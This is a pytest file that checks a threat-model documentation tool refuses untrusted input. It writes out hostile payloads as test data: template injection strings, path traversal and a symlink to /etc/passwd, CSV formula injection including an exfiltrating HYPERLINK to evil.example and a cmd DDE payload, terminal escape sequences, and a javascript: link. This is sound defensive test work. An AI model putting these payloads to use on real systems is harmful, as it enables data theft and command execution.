"""Untrusted input, round two (issue 22): one test per class, with payloads of our own.

1. template syntax handed to sphinx-needs or jinja2; 2. directive options; 3. paths
named inside the model; 4. spreadsheet formulas in every CSV writer; 5. control
characters; 6. model files that are symlinks out of the folder. The whole-build bound
(7) and both faces on one hostile guide are in ``tests/sphinx/test_hostile_build.py``.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import itertools
import json
import os
import re
import textwrap
import xml.etree.ElementTree as ET
from pathlib import Path
from types import SimpleNamespace

import pytest

from secguide.cli.main import main
from secguide.diagnostics import Diagnostic, Severity, SourceLoc
from secguide.evidence.build_report import CSV_COLUMNS as VERDICT_COLUMNS
from secguide.evidence.build_report import verdicts_csv
from secguide.evidence.export import CSV_COLUMNS, build_evidence, traceability_csv
from secguide.evidence.reqif import guide_reqif_text, typed_reqif_text
from secguide.files import UnsafeReference, project_file, read_bounded_text
from secguide.model.loader import load_threat_model, threatmodel_files
from secguide.spreadsheet import csv_text, inert_cell
from secguide.trace.needs import NeedItem
from secguide.trace.prose import check_prose, inert_for_needs, prose_findings
from secguide.trace.verifications import check_pytest_refs
from secguide.untrusted import inert
from secguide.zephyr.dotconfig import parse_dotconfig
from trace_fixtures import small_model

REPO = Path(__file__).resolve().parents[1]
PACKAGE = REPO / "ext" / "secguide"


def _model(tmp_path: Path, files: dict[str, str]) -> Path:
    folder = tmp_path / "threatmodel"
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text), encoding="utf-8")
    return folder


def _line(path: Path, words: str) -> int:
    for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
        if words in line:
            return number
    raise AssertionError(f"{words!r} not in {path}")


# -- 1. templates: text handed to sphinx-needs or jinja2 never evaluates -------------------

@pytest.mark.parametrize(("text", "opener"), [
    ("See :need:`[\\[ 7*7 ]\\] <REC-X>`.", "[["),          # escaped: docutils unescapes it
    ("See :need:`[\\ [ 7*7 ]] <REC-X>`.", "[["),           # an escaped space vanishes
    ("See :need:`[\\\n[ 7*7 ]] <REC-X>`.", "[["),          # so does an escaped line end
    ("A [[copy('id')]] call.", "[["),
    ("Loop {% for a in range(9) %}x{% endfor %}.", "{%"),
    ("Value {{ 7*7 }}.", "{{"),
    ("Wide \uff5b\uff5b 7*7 }}.", "{{"),                  # full-width braces fold to {{
])
def test_template_openers_in_prose_are_refused(text: str, opener: str) -> None:
    found = prose_findings(text)
    assert [f.snippet for f in found] == [opener]
    assert "template syntax" in found[0].what


@pytest.mark.parametrize("text", ["a[b[0]] and x >> 2", "{a} and {b}", "[x] [y] {'%'}"])
def test_brackets_that_open_no_template_are_prose(text: str) -> None:
    assert prose_findings(text) == []


def test_inert_for_needs_breaks_every_opener() -> None:
    made = inert_for_needs("[[a]] <<b>> {{c}} {%d%}")
    assert not any(opener in made for opener in ("[[", "<<", "{{", "{%"))
    assert made.replace("\u2060", "") == "[[a]] <<b>> {{c}} {%d%}"


#: Every prose field and every plain field that becomes a need field, each holding a
#: template on its own line (the word TPL marks the line).
EVERY_FIELD = {
    "scope.yaml": """\
        scope:
          boundary: "TPL {{ 7*7 }}"
          shared_responsibility: |
            First line.
            TPL :need:`[\\[ 7*7 ]\\] <REC-ALL>`
          assumptions:
            - id: ASM-ALL
              title: "TPL {% if 1 %}x{% endif %}"
              text: "TPL {% for a in range(9) %}x{% endfor %}"
        """,
    "assets.yaml": """\
        assets:
          - id: AST-ALL
            title: "TPL {{ 7*7 }}"
            category: security
            description: "TPL [[copy('id')]]"
        """,
    "adversaries.yaml": """\
        adversaries:
          - id: ADV-ALL
            title: Adversary
            description: "TPL {{ 7*7 }}"
            addressed: false
            reason: "TPL {{ 7*7 }}"
        """,
    "out_of_scope.yaml": """\
        out_of_scope:
          - id: OOS-ALL
            title: Out
            reason: "TPL {{ 7*7 }}"
            protection_from: "TPL [[copy('id')]]"
        """,
    "threats.yaml": """\
        threats:
          - id: THR-ALL
            title: "TPL {{ 7*7 }}"
            description: "TPL {{ 7*7 }}"
            assets: [AST-ALL]
            mitigated_by: [REC-ALL]
        responsibilities:
          - id: RESP-ALL
            title: Responsibility
            description: "TPL {{ 7*7 }}"
        """,
    "recommendations.yaml": """\
        recommendations:
          - id: REC-ALL
            title: Everything
            area: general
            status: deprecated
            rationale: "TPL {{ 7*7 }}"
            tags: ["TPL {{ 7*7 }}"]
            settings:
              - symbol: STACK_CANARIES
                value: "TPL {{ 7*7 }}"
                note: "TPL {{ 7*7 }}"
            verification:
              - id: TEST-MAN-ALL
                manual: "TPL {{ 7*7 }}"
                note: "TPL {{ 7*7 }}"
            deprecated:
              removed_in: "9.0"
              note: "TPL {{ 7*7 }}"
        waivers:
          - symbol: ASSERT
            reason: "TPL {{ 7*7 }}"
        """,
    "standards/all.yaml": """\
        standard:
          id: STD-ALL
          name: "TPL {{ 7*7 }}"
          edition: "1"
          summary: "TPL {{ 7*7 }}"
          clauses:
            - id: CLS-ALL-1
              clause: "1"
              title: "TPL {{ 7*7 }}"
              met_by: configuration
              recommendations: [REC-ALL]
              justification: "TPL {{ 7*7 }}"
        """,
}


def test_templates_are_refused_in_every_field(tmp_path: Path) -> None:
    counter = itertools.count()
    # each payload differs (TPL0, TPL1, ...): a finding is placed by its field's text
    folder = _model(tmp_path, {name: re.sub("TPL", lambda _: f"TPL{next(counter)}", text)
                               for name, text in EVERY_FIELD.items()})
    model, problems = load_threat_model(folder, display_base=tmp_path)
    assert problems == []
    found = {(d.loc.path, d.loc.line) for d in check_prose(model) if d.code == "unsafe-markup"}
    expected = {(f"threatmodel/{name}", number) for name in EVERY_FIELD
                for number, line in enumerate(
                    (folder / name).read_text(encoding="utf-8").splitlines(), 1)
                if "TPL" in line}
    assert found == expected


# -- 2. directive options: an allow-list per directive, bounded values ----------------------

_BLOCK = ".. code-block:: c\n   {option}\n\n   int a;\n   int b;\n   int c;\n\nAfter."


@pytest.mark.parametrize("option", [
    ":emphasize-lines: 1-99999999999999", ":emphasize-lines: 1-4", ":emphasize-lines: 4",
    ":emphasize-lines: 0", ":emphasize-lines: 3-1", ":emphasize-lines: x", ":class: big",
    ":lineno-start: 99999999999", ":dedent: 1000001", ":name: label",
])
def test_code_block_options_off_the_list_or_out_of_bounds_are_refused(option: str) -> None:
    found = prose_findings(_BLOCK.format(option=option))
    assert [(f.line, f.snippet) for f in found] == [(1, option.split()[0])]


@pytest.mark.parametrize("option", [":emphasize-lines: 1,2-3", ":emphasize-lines: 3",
                                    ":linenos:", ":lineno-start: 10", ":caption: A caption",
                                    ":dedent: 2", ":force:"])
def test_code_block_options_on_the_list_within_bounds_are_prose(option: str) -> None:
    assert prose_findings(_BLOCK.format(option=option)) == []


@pytest.mark.parametrize("directive", ["note", "warning", "seealso"])
def test_admonitions_take_no_options(directive: str) -> None:
    found = prose_findings(f".. {directive}::\n   :class: wide\n\n   Text.")
    assert [f.what for f in found] == [f"option ':class:' of directive '{directive}'"]


# -- 3. paths named inside the model are data ------------------------------------------------

@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / "tests").mkdir(parents=True)
    (root / "tests" / "test_real.py").write_text("def test_real():\n    pass\n")
    (tmp_path / "secret.py").write_text("def secret():\n    pass\n")
    (root / "tests" / "test_out.py").symlink_to(tmp_path / "secret.py")
    (root / "tests" / "test_zero.py").symlink_to("/dev/zero")
    (root / "tests" / "test_gone.py").symlink_to(tmp_path / "missing.py")
    return root


@pytest.mark.parametrize("reference", [
    json.__file__, "/dev/zero", "../secret.py", "tests/../../secret.py", "../missing.py",
    "tests/test_out.py", "tests/test_zero.py", "tests/test_gone.py", "C:/x.py",
    "tests\\..\\..\\secret.py", "threatmodel/x.py", "", "tests/a\x00.py",
])
def test_paths_out_of_the_tests_folder_are_refused_alike(project: Path, reference: str) -> None:
    with pytest.raises(UnsafeReference) as refused:
        project_file(project, reference, under="tests")
    # one message, whether the target exists (secret.py, /dev/zero) or not (missing.py)
    assert str(refused.value) == ("not a relative path inside tests/ (absolute paths, '..', "
                                  "devices and links out of the project are refused)")


def test_a_tests_folder_linking_out_is_refused(tmp_path: Path) -> None:
    root = tmp_path / "project"
    root.mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "test_x.py").write_text("def test_x():\n    pass\n")
    (root / "tests").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(UnsafeReference):
        project_file(root, "tests/test_x.py", under="tests")


def test_a_test_file_inside_is_read_within_a_bound(project: Path, tmp_path: Path) -> None:
    path = project_file(project, "tests/test_real.py", under="tests")
    assert read_bounded_text(path) == "def test_real():\n    pass\n"
    big = project / "tests" / "test_big.py"
    big.write_bytes(b"#" * 2000)
    with pytest.raises(UnsafeReference, match="larger than 1000 bytes"):
        read_bounded_text(project_file(project, "tests/test_big.py", under="tests"), 1000)
    fifo = project / "tests" / "test_fifo.py"
    os.mkfifo(fifo)  # opening a pipe for reading would wait for a writer forever
    with pytest.raises(UnsafeReference, match="not a regular file"):
        read_bounded_text(project_file(project, "tests/test_fifo.py", under="tests"))


def test_pytest_references_are_node_ids_under_tests(project: Path, tmp_path: Path) -> None:
    stdlib = f"{json.__file__}::dumps"  # a file that exists and defines the function
    refs = [stdlib, "/dev/zero::x", "../secret.py::secret", "../missing.py::secret",
            "tests/test_out.py::secret", "tests/test_real.py::test_real",
            "tests/test_none.py::test_x"]
    entries = "".join(f"{' ' * 14}- pytest: {json.dumps(ref)}\n" for ref in refs)
    folder = _model(tmp_path, {"recommendations.yaml": """\
        recommendations:
          - id: REC-PATHS
            title: Paths
            area: general
            status: draft
            rationale: Text.
            verification:
        """.rstrip(" ") + entries})
    model, problems = load_threat_model(folder, display_base=tmp_path)
    assert problems == []
    found = check_pytest_refs(model, project)
    refusal = ("not a relative path inside tests/ (absolute paths, '..', devices and links "
               "out of the project are refused)")
    assert [(d.loc.line, d.code, d.message) for d in found] == [
        *[(8 + index, "unsafe-path", f"pytest {ref!r}: {refusal}")
          for index, ref in enumerate(refs[:5])],
        (14, "unknown-pytest-node", "pytest 'tests/test_none.py::test_x' names "
                                    "tests/test_none.py, which does not exist"),
    ]


# -- 4. spreadsheet formulas: one helper, every CSV writer -----------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A2,"click")', "-2+3+cmd|' /C calc'!A0",
            "+1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "-"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_made_inert(cell: str) -> None:
    assert inert_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-1", "+0.5", "42", "plain", "a=b", "", None])
def test_numbers_and_text_stay_as_they_are(cell: str | None) -> None:
    assert inert_cell(cell) == ("" if cell is None else cell)


def _cells(data: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data, newline="")) for cell in row]


def test_every_csv_writer_of_the_package_is_the_helper() -> None:
    writers = {path.relative_to(PACKAGE).as_posix() for path in PACKAGE.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))}
    assert writers == {"spreadsheet.py"}


def test_traceability_and_verdicts_csv_neutralise_formulas() -> None:
    for columns, write in ((CSV_COLUMNS, traceability_csv), (VERDICT_COLUMNS, verdicts_csv)):
        rows = [dict.fromkeys(columns, formula) for formula in FORMULAS]
        cells = _cells(write(rows).decode("utf-8-sig"))[len(columns):]
        assert cells == ["'" + formula for formula in FORMULAS for _ in columns]


def test_export_neutralises_a_hostile_title(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")
    model = small_model()
    hostile = dataclasses.replace(model.recommendations[0], title=FORMULAS[0])
    model = dataclasses.replace(model, recommendations=(hostile, *model.recommendations[1:]))
    files = build_evidence(model, zephyr_version="4.2.99", tree_fingerprint="f" * 64,
                           inputs=[], results=None)
    rows = list(csv.DictReader(io.StringIO(files["traceability.csv"].decode("utf-8-sig"))))
    titles = {row["title"] for row in rows if row["recommendation"] == hostile.id}
    assert titles == {"'" + FORMULAS[0]}


def test_boards_csv_neutralises_formulas(monkeypatch: pytest.MonkeyPatch, mini_tree: Path,
                                         tmp_path: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    from secguide.trace.project import Project

    target = SimpleNamespace(name="=evil", board="+b", arch="-a", soc="@s")
    verdict = SimpleNamespace(rec_id="REC-X", verdict="met", reason=FORMULAS[1])
    report = SimpleNamespace(target=target, facts={"SOC_SERIES": "\tx"}, verdicts=[verdict],
                             buildable=True)
    monkeypatch.setattr(Project, "iter_board_reports", lambda self, **_: iter([report]))
    folder = _model(tmp_path, {"x.yaml": "threats: []\n"})
    code = main(["boards", "--format", "csv", "--threatmodel", str(folder),
                 "--zephyr-base", str(mini_tree), "--cache-dir", str(tmp_path / "cache")])
    assert code == 0
    cells = _cells(capsys.readouterr().out)
    assert cells[8:] == ["'=evil", "'+b", "'-a", "'@s", "'\tx", "REC-X", "met",
                         "'" + FORMULAS[1]]


# -- 5. control characters: refused where loaded, never raw on a terminal or in XML ---------

CONTROL_MODEL = {"recommendations.yaml": """\
    recommendations:
      - id: "REC-CTRL\\e"
        title: "Title \\e[8m hidden"
        area: general
        status: draft
        rationale: |
          First line.
          Second line \u202e reversed.
        references: ["https://example.org/\\x85"]
        tags: ["tag\\x7f"]
        settings:
          - symbol: "STACK_CANARIES\\x00"
            value: "y\\x9b"
            note: "Bell \\x07"
        verification:
          - id: TEST-MAN-CTRL
            manual: "Procedure \\e]0;t\\x07"
        review: {by: "Mallory \\u2066", date: "2026-01-01\\x0c", fingerprint: "f\\r"}
      - id: REC-KEY
        title: Key
        area: general
        status: draft
        "rationale\\e": x
    """}

#: (words on the line, escape shown) of every refusal, in file order
CONTROL_LINES = [("REC-CTRL", "\\u001b"), ("Title", "\\u001b"), ("Second line", "\\u202e"),
                 ("references", "\\u0085"), ("tags", "\\u007f"), ("symbol", "\\u0000"),
                 ("value", "\\u009b"), ("note", "\\u0007"), ("manual", "\\u001b"),
                 ("review", "\\u2066"), ("review", "\\u000c"), ("review", "\\u000d"),
                 ('"rationale', "\\u001b")]


def test_control_characters_are_refused_at_their_line(tmp_path: Path) -> None:
    folder = _model(tmp_path, CONTROL_MODEL)
    model, problems = load_threat_model(folder, display_base=tmp_path)
    path = folder / "recommendations.yaml"
    found = [(d.loc.line, d.message.split()[5].rstrip(";")) for d in problems
             if d.code == "unsafe-text"]
    assert found == [(_line(path, words), shown) for words, shown in CONTROL_LINES]
    assert all(d.loc.path == "threatmodel/recommendations.yaml" for d in problems)
    # what is kept is inert: the escape is visible, the character is gone
    texts = [text for _, text in model.text_places]
    assert not any(re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e\u2066]", text)
                   for text in texts)


def test_tab_and_newline_are_text(tmp_path: Path) -> None:
    folder = _model(tmp_path, {"threats.yaml": """\
        threats:
          - id: THR-TAB
            title: "A\\ttab"
            description: |
              Two
              lines.
        """})
    _, problems = load_threat_model(folder, display_base=tmp_path)
    assert [d for d in problems if d.code == "unsafe-text"] == []


def _raw_controls(text: str) -> list[str]:
    return re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)


def test_check_never_prints_a_control_character(tmp_path: Path, mini_tree: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    folder = _model(tmp_path, {
        **CONTROL_MODEL,
        # the check's own message quotes the refused link: not raw either
        "threats.yaml": """\
            threats:
              - id: THR-LINK
                title: Link
                description: "`x <javascript:\\e[8m\\u202ealert(1)>`_"
            """})
    args = ["--threatmodel", str(folder), "--zephyr-base", str(mini_tree),
            "--cache-dir", str(tmp_path / "cache")]
    assert main(["check", *args]) == 1
    out, err = capsys.readouterr()
    assert _raw_controls(out + err) == []
    assert "[unsafe-markup]" in out + err and "\\u202e" in out + err
    assert main(["review", "--unreviewed", "--format", "md", *args]) == 1
    out, err = capsys.readouterr()
    assert _raw_controls(out + err) == [] and "\\u001b" in out + err


def test_kconfig_text_reaches_the_terminal_inert(mini_tree: Path, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    with (mini_tree / "Kconfig.zephyr").open("a", encoding="utf-8") as kconfig:
        kconfig.write('\nconfig HOSTILE_PROMPT\n\tbool "Prompt \x1b[2J\u202e here"\n')
    assert main(["kconfig", "show", "HOSTILE_PROMPT", "--zephyr-base", str(mini_tree),
                 "--cache-dir", str(tmp_path / "cache")]) == 0
    out = capsys.readouterr().out
    assert _raw_controls(out) == [] and "Prompt \\u001b[2J\\u202e here" in out


def test_diagnostic_lines_are_inert() -> None:
    line = str(Diagnostic(SourceLoc("x\x1b.yaml", 1), Severity.ERROR, "unsafe-text",
                          "a \x9b b"))
    assert line == "x\\u001b.yaml:1: error: a \\u009b b [unsafe-text]"


def test_reqif_stays_well_formed_xml() -> None:
    hostile = "\x1b[31m \x00 \x0c \x7f \x9b \u202e"
    items = [NeedItem(id="REC-X", type="recommendation", title=hostile, content=hostile,
                      status=hostile, tags=(hostile,), extra={"area": hostile},
                      loc=SourceLoc("x.yaml", 1))]
    for write in (guide_reqif_text, typed_reqif_text):
        text = write(items, title="t", created="2026-01-01T00:00:00Z")
        ET.fromstring(text.encode("utf-8"))  # raises on an ill-formed document
        assert _raw_controls(text) == [] and inert(hostile) in text


# -- 6. symlinks out of the model folder ----------------------------------------------------

def test_model_files_linking_out_of_the_folder_are_refused(tmp_path: Path) -> None:
    folder = _model(tmp_path, {"threats.yaml": "threats: []\n"})
    outside = tmp_path / "outside.yaml"
    outside.write_text("threats:\n  - id: THR-OUTSIDE\n")
    (folder / "passwd.yaml").symlink_to("/etc/passwd")
    (folder / "outside.yaml").symlink_to(outside)
    (folder / "dangling.yaml").symlink_to(tmp_path / "nothing.yaml")
    (folder / "inside.yaml").symlink_to(folder / "threats.yaml")
    model, problems = load_threat_model(folder, display_base=tmp_path)
    assert sorted((d.loc.path, d.code) for d in problems) == [
        ("threatmodel/dangling.yaml", "unsafe-path"), ("threatmodel/outside.yaml", "unsafe-path"),
        ("threatmodel/passwd.yaml", "unsafe-path")]
    assert [p.name for p in threatmodel_files(folder)] == ["inside.yaml", "threats.yaml"]
    assert len(model.files) == 2  # nothing of the outside files was read (no finding in them)


def test_plain_cells_are_written_as_they_are() -> None:
    assert csv_text(("a", "b"), [("x", "y"), {"b": "z"}]) == "a,b\r\nx,y\r\n,z\r\n"


def test_config_lines_with_control_characters_are_refused() -> None:
    real = REPO.parent / "shared" / "builds" / "configs" / "qemu_x86-vehicleos.config"
    text = real.read_text(encoding="utf-8")
    hostile = text + 'CONFIG_HOSTILE_NAME="a\x1b]0;pwn\x07 \u202eb"\n'
    parsed = parse_dotconfig(hostile, "hostile.config")
    line = len(text.splitlines()) + 1
    assert [(d.loc.line, d.code) for d in parsed.diagnostics] == [
        (line, "dotconfig.unsafe-text")]
    assert "HOSTILE_NAME" not in parsed  # the refused line is not read
    assert _raw_controls(str(parsed.diagnostics[0])) == []
